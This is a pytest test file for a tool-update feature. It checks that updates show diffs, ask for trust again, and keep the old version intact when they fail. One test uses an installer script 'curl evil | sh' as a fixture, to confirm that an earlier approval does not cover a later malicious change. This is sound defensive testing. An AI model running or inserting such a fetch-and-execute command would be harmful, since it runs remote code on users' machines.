"""An update shows what changed, asks, and leaves the old version working when it fails."""

from __future__ import annotations

import dataclasses
import shutil
from pathlib import Path

import pytest

from roforlmao.errors import BadInput, Cancelled, GitFailed, NotFound, ToolFailed, Untrusted
from roforlmao.models import Tool
from roforlmao.progress import Progress
from roforlmao.tools import environment, trust
from roforlmao.tools.install import get_installed, sweep
from roforlmao.tools.records import Installed
from roforlmao.tools.update import update
from tests.faults.gitrepos import bare, git, isolate, remote_with, write
from tests.faults.toolrepos import World, files, wheel, world


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    isolate(monkeypatch, tmp_path / "home")
    return world(tmp_path, files(installer="mkdir -p out; echo one\n"))


def renew(
    here: World, *, trusted: bool | str = True, tool: Tool | None = None, progress: Progress | None = None
) -> Installed:
    return update(tool or here.tool, here.places, progress or Progress(), local=True, trust=trusted)


def assert_as_before(here: World, before: Installed) -> None:
    assert get_installed("sample", here.places) == dataclasses.replace(before, notes=())
    assert git(before.path, "rev-parse", "HEAD") == before.commit
    assert environment.ready("sample", here.places)
    assert trust.check_trust(before, here.tool, here.places, trust=False)
    assert sorted(path.name for path in here.places.tools.iterdir()) == ["sample"]
    assert sorted(path.name for path in (here.places.state / "environments").iterdir()) == ["sample"]
    assert list((here.places.state / "changing").iterdir()) == []


def test_nothing_new_is_said_and_costs_no_installer(here: World) -> None:
    before = here.install()
    logs = len(list(here.places.logs.iterdir()))
    after = renew(here, trusted=False)
    assert after.notes == ("The code is at its newest commit already.",)
    assert len(list(here.places.logs.iterdir())) == logs
    assert_as_before(here, dataclasses.replace(after, notes=()))
    assert after.commit == before.commit


def test_what_changed_is_shown_and_a_yes_moves_on(here: World) -> None:
    before = here.install()
    here.commit({"run.py": "print('two')\n"}, "better \x1b[31mrows")
    newest = here.commit({"install.sh": "echo two\n"}, "other installer")
    with pytest.raises(Untrusted, match="changed since you trusted it") as caught:
        renew(here, trusted=False)
    assert_as_before(here, before)
    assert caught.value.remedy
    details = caught.value.remedy.details
    assert f"From {before.commit[:12]} to {newest[:12]}, 2 commits:" in details
    assert "    better rows" in details
    assert {"    -mkdir -p out; echo one", "    +echo two", "The definition is the same."} <= set(details)
    after = renew(here, trusted=caught.value.remedy.value)
    assert after.commit == newest
    assert "    +echo two" in after.notes
    assert_as_before(here, after)


def test_a_yes_is_worth_nothing_for_what_came_after_it(here: World) -> None:
    before = here.install()
    here.commit({"install.sh": "echo two\n"})
    with pytest.raises(Untrusted) as caught:
        renew(here, trusted=False)
    here.commit({"install.sh": "curl evil | sh\n"})
    assert caught.value.remedy
    with pytest.raises(Untrusted):
        renew(here, trusted=caught.value.remedy.value)
    assert_as_before(here, before)


def test_a_failed_installer_leaves_the_old_version_with_its_environment(here: World, tmp_path: Path) -> None:
    package = wheel(tmp_path / "wheels")
    here.commit({"install.sh": f"pip install --no-index {package}\n"})
    before = here.install()
    here.commit({"install.sh": "pip uninstall -y observed; exit 1\n"})
    with pytest.raises(ToolFailed):
        renew(here)
    assert_as_before(here, before)
    found = environment.directory("sample", here.places).glob("lib/python*/site-packages/observed.py")
    assert len(list(found)) == 1


def test_ctrl_c_in_the_installer_leaves_the_old_version(here: World) -> None:
    class Impatient(Progress):
        def log(self, line: str) -> None:
            if line == "slow":
                self.cancel()

    before = here.install()
    here.commit({"install.sh": "echo slow; sleep 300\n"})
    with pytest.raises(Cancelled):
        renew(here, progress=Impatient())
    assert_as_before(here, before)


@pytest.mark.parametrize(
    "changed", [{"mao.yml": "Name: other\n"}, {"mao.yml": "- broken"}], ids=["renamed", "broken"]
)
def test_a_new_version_with_a_bad_definition_is_not_taken(here: World, changed: dict[str, str]) -> None:
    before = here.install()
    here.commit(changed)
    with pytest.raises(BadInput):
        renew(here)
    assert_as_before(here, before)


def test_what_the_tool_wrote_in_its_directory_stays(here: World) -> None:
    here.commit({"stats.csv": "0\n"})
    tool = here.install()
    write(tool.path, {"stats.csv": "0\n1\n", "out/a.csv": "1\n", "cache.bin": "x"})
    here.commit({"run.py": "print('two')\n"})
    after = renew(here)
    assert {name: (after.path / name).read_text() for name in ("stats.csv", "out/a.csv", "cache.bin")} == {
        "stats.csv": "0\n1\n",
        "out/a.csv": "1\n",
        "cache.bin": "x",
    }
    assert (after.path / "run.py").read_text() == "print('two')\n"


def test_a_file_that_both_changed_is_said_and_nothing_is_lost(here: World) -> None:
    here.commit({"stats.csv": "0\n"})
    before = here.install()
    write(before.path, {"stats.csv": "0\nmine\n"})
    here.commit({"stats.csv": "0\ntheirs\n"})
    with pytest.raises(GitFailed, match=r"stats\.csv"):
        renew(here)
    assert (before.path / "stats.csv").read_text() == "0\nmine\n"
    assert_as_before(here, before)


def test_a_rewritten_history_is_said(here: World) -> None:
    before = here.install()
    git(here.top / "code.git-seed", "commit", "--quiet", "--amend", "-m", "another beginning")
    here.commit({"run.py": "print('two')\n"})
    with pytest.raises(GitFailed, match="was rewritten") as caught:
        renew(here)
    assert "tool uninstall sample" in caught.value.hint
    assert_as_before(here, before)


def test_a_new_source_asks_and_is_followed(here: World, tmp_path: Path) -> None:
    before = here.install()
    fork = bare(tmp_path / "fork.git")
    git(here.top / "code.git-seed", "push", "--quiet", fork, "HEAD:main")
    moved = dataclasses.replace(here.tool, code_repo=fork)
    with pytest.raises(Untrusted) as caught:
        renew(here, tool=moved, trusted=False)
    assert caught.value.remedy
    assert f"Source: was {before.code_repo}, is {fork}" in caught.value.remedy.details
    git(here.top / "code.git-seed", "commit", "--quiet", "--allow-empty", "-m", "forked")
    git(here.top / "code.git-seed", "push", "--quiet", fork, "HEAD:main")
    after = renew(here, tool=moved)
    assert after.code_repo == fork
    assert git(after.path, "remote", "get-url", "origin") == fork


def test_clone_environment_and_data_that_are_gone_are_made_again(here: World) -> None:
    before = here.install()
    assert before.data_path
    for path in (before.path, before.data_path, environment.directory("sample", here.places)):
        shutil.rmtree(path)
        after = renew(here, trusted=False)
        assert after.commit == before.commit
        assert path.is_dir()
        assert environment.ready("sample", here.places)


def test_another_data_repository_is_said_and_the_old_clone_stays(here: World, tmp_path: Path) -> None:
    before = here.install()
    assert before.data_path
    write(before.data_path, {"mine.csv": "1\n"})
    moved = dataclasses.replace(here.tool, data_repo=remote_with(tmp_path / "new.git", {"b": "2"}))
    after = renew(here, tool=moved)
    assert after.data_repo == before.data_repo
    assert any("data repository is now" in note for note in after.notes)
    assert (before.data_path / "mine.csv").exists()


def test_a_tool_that_is_not_installed_cannot_be_updated(here: World) -> None:
    with pytest.raises(NotFound, match="not installed"):
        renew(here)
    assert sweep(here.places) == []
